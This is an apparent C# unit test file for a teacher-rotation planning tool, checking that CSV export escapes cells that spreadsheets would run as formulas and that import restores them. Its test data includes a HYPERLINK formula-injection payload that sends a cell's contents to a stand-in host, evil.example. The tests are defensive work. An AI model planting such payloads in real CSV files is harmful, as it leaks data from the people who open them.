using Jiaoling.Rotation.Data.Csv;
using Jiaoling.Rotation.Data.Tests.Import;
using Jiaoling.Rotation.Domain;

namespace Jiaoling.Rotation.Data.Tests.PlanCsv;

/// <summary>
/// Text that Excel or WPS would run as a formula is written behind an apostrophe in every CSV the project
/// writes, and the project's reader takes exactly that apostrophe off again.
/// </summary>
public sealed class FormulaInjectionTests : IDisposable
{
    private readonly PlanText _files = new();

    public static TheoryData<string> Names => new()
    {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "'=已有撇号", "''+两个撇号",
    };

    [Theory]
    [MemberData(nameof(Names))]
    public void A_name_that_starts_like_a_formula_is_neutralised_in_the_file_and_reads_back_as_it_was(string name)
    {
        var plan = new Plan([Row(name, name, "理由" + name), Row("T2", "O'Brien", "'普通撇号")]);

        var text = Write(plan);
        var result = Csv.PlanCsv.Read(Save(text));

        var cells = text.Split('\n')[1];
        Assert.StartsWith("'", Unquoted(cells));
        Assert.DoesNotContain(",=", cells);
        Assert.Contains(",1.0,2027-09-01,2030-09-01,", cells);
        Assert.Contains("\nT2,O'Brien,", text);
        Assert.Empty(result.Problems);
        Assert.Equal(plan.Assignments, result.Plan!.Assignments);
    }

    [Fact]
    public void Every_text_column_of_plan_csv_is_neutralised_and_numbers_and_codes_are_not()
    {
        var plan = new Plan([Row("-T1", "+名", "=理由") with { From = new SchoolId("@S1"), To = new SchoolId("-S2") }]);

        var line = Write(plan).Split('\n')[1];

        Assert.Equal("'-T1,'+名,transfer,'@S1,'-S2,primary,MUS,1.0,2027-09-01,2030-09-01,'=理由", line);
    }

    [Fact]
    public void Demand_csv_neutralises_its_school_ids()
    {
        using var writer = new StringWriter();

        DemandCsv.Write([new DemandEntry(new DemandKey(new SchoolId("=S1"), Stage.Primary, Subject.PE), 1.5m)], writer);

        Assert.Equal("'=S1,primary,PE,1.5", writer.ToString().Split('\n')[1]);
    }

    [Fact]
    public void A_dataset_cell_neutralised_by_another_tool_imports_without_its_apostrophe()
    {
        using var dataset = TempDataset.Valid().With("teachers.csv", TempDataset.Teachers.Replace(",李丽,", ",'=李丽,"));

        var result = dataset.Read();

        Assert.True(result.Ok, string.Join("\n", result.Errors));
        Assert.Equal("=李丽", result.Dataset!.Teachers[0].Name);
    }

    public void Dispose() => _files.Dispose();

    private static string Unquoted(string line) => line.TrimStart('"');

    private static Assignment Row(string teacher, string name, string reason) =>
        PlanText.Row(teacher, AssignmentKind.Transfer, Subject.MUS, 1.0m, reason, name);

    private static string Write(Plan plan) => PlanText.Write(plan);

    private string Save(string text) => _files.Save(text);
}
